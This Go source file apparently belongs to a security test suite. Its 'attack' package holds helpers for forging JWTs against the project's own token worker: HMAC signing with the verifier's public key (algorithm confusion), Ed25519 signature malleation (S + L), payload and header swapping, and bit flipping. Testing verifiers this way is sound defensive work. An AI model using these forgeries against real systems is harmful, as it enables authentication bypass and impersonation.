package attack

import (
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"hash"
	"math/big"
	"slices"
	"strings"
	"unicode"
)

// The tools of a token forger: JWT segments, signatures with keys the
// attacker has (its own, the public key as an HMAC secret) and, for cases
// that need a genuine signature on chosen claims, the worker's own key.

func b64(b []byte) string { return base64.RawURLEncoding.EncodeToString(b) }

// unb64 decodes base64url, nil when s is not.
func unb64(s string) []byte { b, _ := base64.RawURLEncoding.DecodeString(s); return b }

// flipBit returns a copy of b with bit i flipped (b unchanged if too short).
func flipBit(b []byte, i int) []byte {
	out := slices.Clone(b)
	if i/8 < len(out) {
		out[i/8] ^= 1 << (i % 8)
	}
	return out
}

// ed25519Order is L, the order of Ed25519's base point.
var ed25519Order, _ = new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)

// malleate returns an Ed25519 signature with S replaced by S + L: the same
// signature to a verifier that skips RFC 8032's S < L check.
func malleate(sig []byte) []byte {
	if len(sig) != ed25519.SignatureSize {
		return sig
	}
	le := func(b []byte) []byte { // little-endian to big-endian and back
		r := slices.Clone(b)
		slices.Reverse(r)
		return r
	}
	s := new(big.Int).SetBytes(le(sig[32:]))
	s.Add(s, ed25519Order)
	out := append([]byte(nil), sig[:32]...)
	return append(out, le(s.FillBytes(make([]byte, 32)))...)
}

// seg is the base64url JSON encoding of v.
func seg(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		panic("attack: encoding a token segment: " + err.Error()) // maps of plain values only
	}
	return b64(b)
}

// jwtParts splits a compact JWT; it returns three empty strings when t is
// not one.
func jwtParts(t string) (header, payload, sig string) {
	p := strings.Split(t, ".")
	if len(p) != 3 {
		return "", "", ""
	}
	return p[0], p[1], p[2]
}

// claimsOf decodes the payload of a token the worker issued.
func claimsOf(t string) (map[string]any, error) {
	_, p, _ := jwtParts(t)
	b, err := base64.RawURLEncoding.DecodeString(p)
	if err != nil {
		return nil, errors.New("payload is not base64url")
	}
	var m map[string]any
	if err := json.Unmarshal(b, &m); err != nil {
		return nil, errors.New("payload is not a JSON object")
	}
	return m, nil
}

// signEd signs header and claims with an Ed25519 key.
func signEd(key ed25519.PrivateKey, header, claims map[string]any) string {
	input := seg(header) + "." + seg(claims)
	return input + "." + b64(ed25519.Sign(key, []byte(input)))
}

// signHMAC signs header and claims with HMAC under secret: the classic
// algorithm confusion, where secret is the verifier's public key.
func signHMAC(alg string, secret []byte, header, claims map[string]any) string {
	h, ok := map[string]func() hash.Hash{"HS384": sha512.New384, "HS512": sha512.New}[alg]
	if !ok {
		h = sha256.New
	}
	input := seg(header) + "." + seg(claims)
	mac := hmac.New(h, secret)
	mac.Write([]byte(input))
	return input + "." + b64(mac.Sum(nil))
}

// withPayload keeps t's header and signature around new claims: a tampered
// token.
func withPayload(t string, claims map[string]any) string {
	h, _, s := jwtParts(t)
	return h + "." + seg(claims) + "." + s
}

// withHeader keeps t's payload and signature under a new header.
func withHeader(t string, header map[string]any) string {
	_, p, s := jwtParts(t)
	return seg(header) + "." + p + "." + s
}

// signingKey returns the kid and private key of the first entry of a key
// ring spec "kid:base64url(32-byte seed)", as internal/token reads it.
func signingKey(spec string) (string, ed25519.PrivateKey, error) {
	entries := strings.FieldsFunc(spec, func(r rune) bool { return r == ',' || unicode.IsSpace(r) })
	if len(entries) == 0 {
		return "", nil, errors.New("empty key ring spec")
	}
	kid, enc, ok := strings.Cut(entries[0], ":")
	if !ok || kid == "" {
		return "", nil, errors.New("key ring entry 1 is not kid:seed")
	}
	seed, err := base64.RawURLEncoding.DecodeString(strings.TrimRight(enc, "="))
	if err != nil || len(seed) != ed25519.SeedSize {
		return "", nil, errors.New("key ring entry 1 has no 32-byte base64url seed")
	}
	return kid, ed25519.NewKeyFromSeed(seed), nil
}
